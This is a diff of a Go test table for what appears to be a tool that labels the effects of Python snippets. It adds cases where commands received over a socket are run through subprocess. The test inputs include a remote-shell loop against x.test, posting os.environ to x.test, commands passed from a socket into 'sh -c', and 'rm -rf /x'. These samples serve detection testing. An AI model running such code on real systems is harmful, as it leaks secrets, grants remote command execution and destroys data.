@@ -53,6 +53,10 @@ func TestEffects(t *testing.T) {
 		{"list of hosts", "import requests\nfor u in ['http://a.test', 'http://b.test']:\n    requests.get(u)", []string{"net request a.test", "net request b.test"}},
 		{"environment sent", "import os, requests, json\nrequests.post('http://x.test', data=json.dumps(dict(os.environ)))", []string{"net upload x.test"}},
 		{"received code", "import socket, subprocess\ns = socket.socket()\ns.connect(('x.test', 1))\nwhile True:\n    subprocess.run(s.recv(99).decode(), shell=True)", []string{"struct recv_exec", "dyn opaque_code"}},
+		{"received data of a program", "import socket, subprocess\ns = socket.socket()\ns.connect(('x.test', 1))\nsubprocess.run(['svn', 'info', s.recv(9).decode()])", []string{"!struct"}},
+		{"a received program", "import socket, subprocess\ns = socket.socket()\ns.connect(('x.test', 1))\nsubprocess.run([s.recv(9).decode(), 'x'])", []string{"struct recv_exec"}},
+		{"received code of a shell", "import socket, subprocess\ns = socket.socket()\ns.connect(('x.test', 1))\nsubprocess.run(['sh', '-c', s.recv(9).decode()])", []string{"struct recv_exec"}},
+		{"a received command of a wrapper", "import socket, subprocess\ns = socket.socket()\ns.connect(('x.test', 1))\nsubprocess.run(['nohup', s.recv(9).decode()])", []string{"struct recv_exec"}},
 
 		{"argv", "import subprocess\nsubprocess.run(['rm', '-rf', '/x'])", []string{"cmd rm -rf /x"}},
 		{"argv parts", "import subprocess as sp\ncmd = ['rm']\ncmd.append('-rf')\ncmd += ['/x']\nsp.Popen(cmd)", []string{"cmd rm -rf /x"}},
